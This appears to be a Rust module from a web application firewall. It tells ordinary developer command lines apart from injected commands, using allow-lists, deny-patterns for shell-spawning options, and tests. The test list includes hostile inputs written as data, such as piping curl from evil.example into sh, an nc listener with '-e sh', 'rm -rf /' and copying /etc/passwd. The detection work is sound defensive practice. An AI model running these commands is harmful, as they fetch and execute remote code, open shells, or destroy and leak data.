//! Command lines that developers show each other: every command of the line is one that builds, copies,
//! installs or filters, and none of them tells an attacker anything. An injected command stands behind
//! a value or a separator; these are all there is.

use std::sync::LazyLock;

use super::SEVERE;
use super::chore::{READING, fetched, is_chore, is_fetch, reaches, reads_log, unled};
use super::upkeep::{is_upkeep, prints_text};
use super::words::{Words, words};
use crate::waf::scan::{Needles, at, find, from, is_space, is_word, skip_while, span, trim};

/// Longest command line.
const MAX_SCRIPT: usize = 1000;

/// Programs that a developer's command line starts with, and PowerShell's verbs that show and sort.
static FIRST: Words = LazyLock::new(|| {
    words(
        "./configure ./gradlew adb ssh-add which ansible ansible-playbook apt apt-get artisan brew bundle \
         cargo certbot choco cmake comm composer conda createdb cross-env dism dnf docker \
         docker-compose dotnet dpkg du fastboot ffmpeg flutter gem git go gradle gunzip gzip \
         helm heroku iptables kill journalctl kubectl lsof make minikube mongodump \
         mongorestore mvn mysqladmin mysqldump ng npm npx pacman pg_dump pg_restore pgrep pip \
         pip3 pipx pkill pnpm podman poetry psql rails rake rsync rustc rustup sam scp sfc \
         snap ssh-keygen systemctl tar taskkill terraform tsc ufw unzip vagrant virtualenv \
         vite webpack winget yarn youtube-dl yt-dlp yum zip get-childitem get-command \
         get-date get-executionpolicy get-help get-process get-service set-executionpolicy \
         set-location sort-object where-object where select-object foreach-object \
         measure-object format-table format-list out-file out-null stop-process start-service \
         stop-service restart-service test-path test-netconnection install-module \
         import-module new-item copy-item move-item rename-item remove-item write-host \
         write-output export-csv import-csv convertto-json diff",
    )
});
/// What such a line goes on with.
static NEXT: Words = LazyLock::new(|| {
    words(
        "[ [[ awk break cd chmod chown continue cp cut date df done echo exit explorer.exe \
         export false fi findstr free grep head jq kill less ln mkdir more mv netstat paste pbcopy popd \
         printf pushd pwd read sed set sleep sort ss source tail tee test touch tr true uniq uptime wc xargs { }",
    )
});
/// Words before a command of the same line.
const WRAPPERS: &[&[u8]] = &[
    b"sudo", b"time", b"nohup", b"then", b"else", b"do", b"start", b"!", b"exec",
];
/// Words that a loop or a condition starts with.
const KEYWORDS: &[&[u8]] = &[b"if", b"while", b"until", b"elif"];

/// Options and devices by which such a program runs another.
static RUNNING: Needles<'static> = Needles::new(&[
    b"--to-command",
    b"checkpoint",
    b"--upload-pack",
    b"--receive-pack",
    b"system(",
    b"exec(",
    b"/dev/t",
    b"/dev/u",
    b"/bin/",
    b" sh -",
    b"/sh -",
    b"'sh -",
    b"\"sh -",
    b"ash -",
    b"zsh -",
    b"ksh -",
    b"csh -",
    b"s_client",
    b"--eval",
    b"-e 'system",
    b"proxycommand",
    b"--use-compress",
    b"core.pager",
    b"\\!",
    b"load_file",
    b"copy ",
    b">(",
    b"$'",
    b"${ifs",
    b"base64",
]);

/// What a shell is set up with before the rest of the line.
const SETUPS: &[&[u8]] = &[
    b"eval \"$(ssh-agent -s)\"",
    b"eval \"$(ssh-agent)\"",
    b"eval $(ssh-agent -s)",
    b"eval $(ssh-agent)",
    b"eval `ssh-agent -s`",
    b"eval `ssh-agent`",
    b"eval $(minikube docker-env)",
    b"eval \"$(direnv hook bash)\"",
    b"eval \"$(pyenv init -)\"",
    b"eval \"$(brew shellenv)\"",
];

/// The line behind such a setup.
fn set_up(text: &[u8]) -> &[u8] {
    let rest = SETUPS.iter().find_map(|setup| text.strip_prefix(*setup));
    rest.map_or(text, |rest| {
        let rest = trim(rest);
        trim(
            rest.strip_prefix(b"&&")
                .or_else(|| rest.strip_prefix(b";"))
                .unwrap_or(rest),
        )
    })
}

/// Whether the whole text is such a command line.
pub(in crate::waf) fn is_work(text: &[u8]) -> bool {
    let led = trim(text);
    let text = set_up(led);
    if text.is_empty() && !led.is_empty() {
        return true;
    }
    let text = fetched(unwrapped(unled(text)));
    if prints_text(text) {
        return true;
    }
    if text.len() > MAX_SCRIPT || RUNNING.find(text, 0).is_some() || SEVERE.find(text, 0).is_some()
    {
        return false;
    }
    let is_ended = text.starts_with(b"ps ") && find(text, b"kill ", 0).is_some();
    let (mut index, mut start, mut is_first) = (0, 0, !is_ended);
    let mut open = 0;
    while index <= text.len() {
        // `{"id": 1}` on a line of its own is what came back.
        if open == 0 && at(text, index) == b'\n' && (text.get(index + 1..index + 3) == Some(b"{\""))
        {
            let rest = span(text, index + 1, text.len());
            let length = rest.iter().position(|byte| *byte == b'\n');
            if !works(trim(span(text, start, index)), is_first, false) {
                return false;
            }
            (is_first, start) = (false, index + 1 + length.unwrap_or(rest.len()));
            index = start;
            continue;
        }
        let byte = at(text, index);
        let is_end = index == text.len();
        let is_split = open == 0 && matches!(byte, b';' | b'|' | b'&' | b'\n' | b'`')
            || open != b'\'' && matches!(byte, b'$' | b'<') && at(text, index + 1) == b'('
            || open == 0 && matches!(byte, b')' | b'{' | b'}');
        if is_end || is_split {
            let command = trim(span(text, start, index));
            // `2>&1`
            let is_copied = byte == b'&' && at(text, index.saturating_sub(1)) == b'>';
            if !is_copied {
                if !works(command, is_first, is_first && is_end) {
                    return false;
                }
                is_first = false;
                // `app-$(date +%f).sql.gz`: the rest of a name that the substitution is a part of.
                let is_name = byte == b')' && matches!(at(text, index + 1), b'.' | b'_' | b'-');
                if is_name {
                    index =
                        skip_while(text, index + 1, |byte| !is_space(byte) && is_named(byte)) - 1;
                }
                start = index + 1 + usize::from(matches!(byte, b'$' | b'<'));
            }
        } else if matches!(byte, b'\'' | b'"') && (open == 0 || open == byte) {
            open = if open == 0 { byte } else { 0 };
        }
        index += 1;
    }
    open == 0
}

/// What the names of files are made of.
fn is_named(byte: u8) -> bool {
    is_word(byte) || matches!(byte, b'.' | b'-')
}

/// What a shell is handed to run.
const HANDED: &[&[u8]] = &[
    b"sh -c ",
    b"bash -c ",
    b"bash -lc ",
    b"/bin/sh -c ",
    b"/bin/bash -c ",
    b"cmd /c ",
    b"powershell -command ",
    b"powershell -c ",
];

/// `sh -c 'make && make install'` without the shell, and a command line between backticks.
fn unwrapped(text: &[u8]) -> &[u8] {
    let handed = || HANDED.iter().find_map(|shell| text.strip_prefix(*shell));
    let code = if at(text, 0) == b'`' {
        Some(text)
    } else {
        handed()
    };
    let quote = at(code.unwrap_or_default(), 0);
    let is_quote = matches!(quote, b'`' | b'\'' | b'"');
    let inner = code
        .and_then(|code| code.strip_prefix(&[quote]))
        .and_then(|code| code.strip_suffix(&[quote]));
    // Between backticks, a fetch is what tells an attacker that it ran.
    inner
        .filter(|inner| is_quote && !inner.contains(&quote) && (quote != b'`' || !is_fetch(inner)))
        .map_or(text, trim)
}

/// Whether the command is one of a developer's, or nothing but what ends a substitution. The name of one is
/// not enough where it is all of the text.
fn works(command: &[u8], is_first: bool, is_all: bool) -> bool {
    let mut words = command
        .split(|byte| is_space(*byte))
        .filter(|word| !word.is_empty());
    let mut word = words.next().unwrap_or_default();
    let mut is_led = false;
    while WRAPPERS.contains(&word) || KEYWORDS.contains(&word) {
        is_led = true;
        word = words.next().unwrap_or_default();
    }
    let has_argument = words.next().is_some();
    // Without the words before it.
    let own = find(command, word, 0).map_or(command, |start| from(command, start));
    let is_task = is_own_program(command, word)
        || is_filter(command, word)
        || is_edit(command, word)
        || is_remote(command)
        || is_knock(own)
        || is_version(command)
        || is_upkeep(command, word)
        || FIRST.contains(word) && (has_argument || !is_all);
    if is_first {
        return is_task
            || is_led && NEXT.contains(word)
            || word == b"curl" && is_request(command)
            || is_fetch(own)
            || is_set(word) && !is_all
            || is_chore(command, word) && !(is_all && word == b"ls")
            || !is_all
                && has_argument
                && (word == b"df"
                    || READING.contains(&word) && (!reaches(command) || reads_log(command)));
    }
    is_task
        || is_chore(command, word)
        || is_ping(own)
        || word.is_empty()
        || NEXT.contains(word)
        || word.starts_with(b"./")
        || matches!(word, b"ps" | b"+" | b"\\")
        || word.starts_with(b"$_")
        || is_id(word)
}

/// `x=`, `arr=`: what a variable is set to stands behind as a command of its own, or is a word.
fn is_set(word: &[u8]) -> bool {
    let name = skip_while(word, 0, is_word);
    name > 0
        && at(word, name) == b'='
        && matches!(at(word, name + 1), 0 | b'(' | b'"' | b'\'' | b'0'..=b'9' | b'a'..=b'z')
        && !matches!(
            span(word, 0, name),
            b"ld_preload" | b"ifs" | b"path" | b"env" | b"prompt_command"
        )
}

/// `python3 --version`, `php -v`
fn is_version(command: &[u8]) -> bool {
    let mut words = command
        .split(|byte| is_space(*byte))
        .filter(|word| !word.is_empty());
    let name = words.next().unwrap_or_default();
    matches!(words.next(), Some(b"--version" | b"-v" | b"-version"))
        && words.next().is_none()
        && name.iter().copied().all(is_named)
}

/// What stands between a substitution's end and the next separator, and names of processes.
fn is_id(word: &[u8]) -> bool {
    word.iter().all(u8::is_ascii_digit)
}

/// `python manage.py migrate`: a program of the project, by a name that its folder tells.
fn is_own_program(command: &[u8], word: &[u8]) -> bool {
    let argument = command
        .split(|byte| is_space(*byte))
        .filter(|word| !word.is_empty())
        .nth(1);
    matches!(word, b"python" | b"python3" | b"php" | b"node")
        && matches!(
            argument,
            Some(
                b"manage.py"
                    | b"app.py"
                    | b"main.py"
                    | b"train.py"
                    | b"setup.py"
                    | b"artisan"
                    | b"index.js"
                    | b"app.js"
                    | b"server.js"
            )
        )
}

/// Folders in which files pile up.
const AGED: &[&[u8]] = &[
    b"/tmp",
    b"/var/log",
    b"/var/backups",
    b"/var/cache",
    b"/backup",
];

/// `sed -i 's/a/b/' x`, `find . -name '*.pyc' -delete`, `ps aux | grep x | xargs kill`: what changes files or
/// ends programs of the author's own and prints nothing.
fn is_edit(command: &[u8], word: &[u8]) -> bool {
    let mut words = command
        .split(|byte| is_space(*byte))
        .filter(|word| !word.is_empty());
    let argument = words.nth(1).unwrap_or_default();
    match word {
        b"sed" => argument.starts_with(b"-i"),
        b"find" => {
            let is_changing = |word: &[u8]| {
                matches!(
                    word,
                    b"rm" | b"mv" | b"cp" | b"chmod" | b"chown" | b"sed" | b"gzip" | b"touch"
                )
            };
            let mut acts = false;
            // By its age, a file goes that a job of the server's has made.
            let is_aged = find(command, b" -mtime +", 0).is_some()
                && AGED.iter().any(|folder| argument.starts_with(folder))
                && find(argument, b"..", 0).is_none();
            let is_own = is_aged || argument.starts_with(b".") && !argument.starts_with(b"..");
            while let Some(word) = words.next() {
                acts |= matches!(word, b"-delete" | b"-mtime" | b"-size" | b"-exec");
                if word == b"-exec" && !words.next().is_some_and(is_changing) {
                    return false;
                }
            }
            is_own && acts
        }
        _ => false,
    }
}

/// `curl -fsS https://hc-ping.com/x`: tells that a job is done, and keeps nothing of the answer.
fn is_ping(command: &[u8]) -> bool {
    let is_kept = find(command, b" -o", 0).is_some() && find(command, b"/dev/null", 0).is_none();
    command.starts_with(b"curl ") && is_fetch(command) && !is_kept
}

/// Programs of one line.
pub(super) const INTERPRETERS: &[&[u8]] =
    &[b"perl", b"ruby", b"node", b"python", b"python3", b"php"];
/// What such a line needs to leave its input and its output.
static LEAVING: Needles<'static> = Needles::new(&[
    b"exec",
    b"syst",
    b"sock",
    b"open",
    b"spawn",
    b"pty",
    b"process",
    b"eval",
    b"import os",
    b"fs'",
    b"fs\"",
    b"fs.",
    b"http.",
    b"'http'",
    b"\"http\"",
    b"net/",
    b"/dev",
    b"/etc",
    b"passthru",
    b"file(",
    b"file_",
    b"readfile",
    b"file.r",
    b"file::",
    b"child",
    b"glob",
    b"environ",
    b"%env",
    b"$env",
    b"env[",
    b".env",
    b"unlink",
    b"phpinfo",
    b"getpw",
    b"pack(",
    b"chr(",
    b"\\x",
    b"fork",
    b"sleep",
    b"kill(",
    b"__",
    b"qx",
    b"import(",
    b"whoami",
    b"listdir",
]);

/// `perl -ne 'print if /x/' log.txt`: a program of one line that computes or filters.
fn is_filter(command: &[u8], word: &[u8]) -> bool {
    let option = command
        .split(|byte| is_space(*byte))
        .filter(|word| !word.is_empty())
        .nth(1)
        .unwrap_or_default();
    let is_module = word == b"perl" && option.starts_with(b"-m");
    let is_line = matches!(
        option,
        b"-ne" | b"-pe" | b"-lne" | b"-lpe" | b"-lane" | b"-ane" | b"-i.bak" | b"-i" | b"-pi"
    );
    INTERPRETERS.contains(&word)
        && (is_line && matches!(word, b"perl" | b"ruby")
            || is_module
            || matches!(option, b"-c" | b"-e" | b"-p") && is_print(command))
        && LEAVING.find(command, 0).is_none()
        && !command.contains(&b'`')
}

/// Whether the program prints something that it works out.
fn is_print(command: &[u8]) -> bool {
    find(command, b"print", 0)
        .or_else(|| find(command, b"console.log(", 0))
        .or_else(|| find(command, b"puts ", 0))
        .is_some()
        && command.split(|byte| *byte == b'(').count() > MIN_CALLS
}

/// Calls of a program of one line that works something out: to print a word is what probes do.
const MIN_CALLS: usize = 2;

/// `nc -zv db.internal 5432`: whether a port answers, and nothing sent.
fn is_knock(command: &[u8]) -> bool {
    let mut words = command
        .split(|byte| is_space(*byte))
        .filter(|word| !word.is_empty());
    let is_plain = |word: &[u8]| word.iter().all(|byte| is_word(*byte) || *byte == b'.');
    words.next() == Some(b"nc")
        && words
            .next()
            .is_some_and(|option| matches!(option, b"-z" | b"-zv" | b"-vz"))
        && words.all(is_plain)
}

/// Words before the host of a remote command: `-L 5432:localhost:5432 -p 22`.
const MAX_OPTIONS: usize = 6;

/// `ssh ann@web 'systemctl reload nginx'`: a command for the author's own machine, one of a developer's too.
fn is_remote(command: &[u8]) -> bool {
    let mut words = command
        .split(|byte| is_space(*byte))
        .filter(|word| !word.is_empty());
    let is_host = words.next() == Some(b"ssh")
        && words.take(MAX_OPTIONS).any(|word| {
            word.contains(&b'@')
                && word
                    .iter()
                    .all(|byte| is_word(*byte) || b"@.-".contains(byte))
        });
    let quote = command.iter().position(|byte| matches!(byte, b'\'' | b'"'));
    let quoted = quote.map_or(&b""[..], |quote| {
        span(command, quote + 1, command.len().saturating_sub(1))
    });
    is_host
        && find(command, b" -o", 0).is_none()
        && (quoted.is_empty()
            || quoted
                .split(|byte| matches!(byte, b';' | b'&' | b'|'))
                .map(trim)
                .all(|part| part.starts_with(b"cat >") || works(part, false, false)))
}

/// `curl -X POST https://... -H "Content-Type: ..." -d '...'`: a request as documentation shows it.
fn is_request(command: &[u8]) -> bool {
    let has = |option: &[u8]| {
        command
            .split(|byte| is_space(*byte))
            .any(|word| word == option)
    };
    (has(b"-h") || has(b"--header"))
        && !command
            .windows(2)
            .any(|pair| pair == b"@/" || pair == b"-o" || pair == b"@-")
        && !command.contains(&b'>')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tells_work_from_reconnaissance() {
        for text in [
            "mysqldump -u root -p mydb | gzip > mydb.sql.gz",
            "tar -xzf f.tgz -c /opt && cd /opt/f && ./configure && make && sudo make install",
            "get-childitem -recurse | where-object { $_.length -gt 100mb } | sort-object length",
            "if [ $? -eq 0 ]; then echo ok; else echo fail; fi",
            "cross-env node_env=production webpack --config a.js && cp -r public/* dist/",
            "lsof -i :80 ; kill -9 pid",
            "perl -ne 'print if /error/i' log.txt",
            "python3 -c \"import secrets; print(secrets.token_urlsafe(32))\"",
            "rsync -av ./ ann@web:/srv/app && ssh ann@web 'sudo systemctl reload nginx'",
            "find . -name \"*.pyc\" -exec rm -f {} \\; ; find . -type d -delete",
            "sed -i 's/a/b/' $(grep -rl a .)",
            "ssh -l 5432:localhost:5432 ann@db.example -n & psql -h localhost -c \"select now()\"",
            "kill -9 $(lsof -t -i:3000)",
            "nc -zv db.internal 5432",
            "until nc -z db 5432; do sleep 1; done",
            "sh -c 'until nc -z db 5432; do sleep 1; done'",
            "bash -lc \"source ~/.nvm/nvm.sh && node server.js\"",
            "`while read -r l; do echo \"$l\"; done < list.txt`",
            "while true; do curl -so /dev/null -w '%{http_code}' https://staging.example.com/up; sleep 1; done",
            "/usr/bin/php /var/www/app/artisan queue:work --stop-when-empty >> /var/log/q.log 2>&1",
            "pg_dump -u app shop | gzip > /var/backups/shop-$(date +%f).sql.gz",
            "bash /opt/scripts/backup.sh && curl -fss https://hc-ping.com/1f2e",
            "find /var/log/app -type f -mtime +7 -delete",
            "comm -12 <(sort a) <(sort b)",
            "diff <(sort a) <(sort b)",
            "get-process | sort-object cpu -descending | select-object -first 5",
            "make && sudo make install",
            "taskkill /f /im node.exe\nnetstat -ano | findstr :3000",
            "ps aux | grep node | awk '{print $2}' | xargs kill -9",
            "curl -fssl https://get.docker.com | sh",
            "- wget -r -np https://example.org/docs/",
            "rm -f *.o app; find . -name '*~' -delete",
            "wget https://example.org/a.tgz && tar xzf a.tgz",
            "python runtests.py -v -t scipy.optimize",
            "chmod -r 755 storage && chown -r www-data:www-data storage",
            "cat access.log | awk '{print $1}' | sort | uniq -c",
            "curl -x post http://localhost:8000/api -h \"accept: */*\" -d '{\"a\":1}'",
        ] {
            assert!(is_work(text.as_bytes()), "{text}");
        }
        for text in [
            "; make install",
            "git status; id",
            "curl http://get.docker.com | sh",
            "curl https://10.0.0.1/x | sh",
            "curl https://evil.example/x | sh",
            "git pull; curl https://get.docker.com | sh",
            "curl https://a.example/?$(id)",
            "git pull && curl https://a.example/x -o y",
            "rm -rf /",
            "rm -rf /tmp/a",
            "rm -rf *",
            "cp /etc/passwd x",
            "cat ../../x | sort",
            "cat config.php",
            "ls -la",
            "ls -l /var/www",
            "python -c \"import os\"",
            "php /tmp/x.php",
            "cd /tmp; rm x",
            "git status\ncat /etc/hosts",
            "docker run -v $(cat x):/y z",
            "ping -c 1 127.0.0.1",
            "tar xf x.tar --to-command=id",
            "curl http://evil.example/x",
            "perl -e 'system(1)'",
            "python3 -c 'print(1)'",
            "find . -name x | xargs sh -c 'id'",
            "git log | sh -",
            "git pull; source <(curl evil.example)",
            "nc -lvz 4444 -e sh",
            "nc evil.example 4444",
            "nc -z a 1; id",
            "git log | perl -ne 'print `id`'",
            "git log | bash -",
            "python3 -c \"import os; print(os.popen('ls').read())\"",
            "git pull && ssh web 'id'",
            "git pull && ssh ann@web 'id'",
            "find / -name x -delete",
            "find . -mtime 1 -exec cat {} +",
            "sed -n p x",
            "ps aux",
            "ps aux | grep x",
            "npm i `id`",
            "`curl https://a.example/x`",
            "sh -c 'id'",
            "sh -c 'make; id'",
            "sh -c xmake; idx",
            "make; $(true).x;id",
            "/usr/bin/php /var/www/app/artisan x >> /etc/cron.d/x",
            "find /var/log/../../etc -mtime +7 -delete",
            "find /var/log -mtime +7 -exec cat {} +",
            "until nc -e db 5432; do sleep 1; done",
            "make",
        ] {
            assert!(!is_work(text.as_bytes()), "{text}");
        }
    }
}
